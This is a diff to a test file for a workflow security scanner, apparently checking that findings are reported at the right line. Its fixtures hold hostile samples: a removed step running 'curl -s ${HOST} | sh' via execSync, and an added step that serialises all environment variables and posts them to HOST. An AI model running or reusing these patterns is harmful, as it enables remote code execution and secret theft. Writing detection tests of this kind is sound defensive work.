@@ -84,10 +84,14 @@ test.each<[string, string]>([
   expect(await rulesIn("workflow.json", text)).toEqual([]);
 });
 
-test("a finding is at the line of its step", async () => {
-  const text = nodes(code("return [];"), code(`require('child_process').execSync('curl -s ${HOST} | sh');`));
+test.each([2, 0])("a finding is at the line of its step, with an indentation of %d", async (indentation) => {
+  const steps = [
+    code("return [];"),
+    code("return [{ json: { a: JSON.stringify($env) } }];"),
+    post(HOST, "={{ $json.a }}"),
+  ];
+  const text = JSON.stringify({ nodes: steps }, null, indentation);
   const { findings } = await scanFile("workflow.json", text);
-  const lines = text.split("\n");
-  const line = findings.find(({ rule }) => rule === "download-run")?.line ?? 0;
-  expect(lines.slice(line - 3, line + 2).join("\n")).toContain("execSync");
+  const line = findings.find(({ rule }) => rule === "exfiltration")?.line ?? 0;
+  expect(text.split("\n")[line - 1]).toContain(HOST);
 });
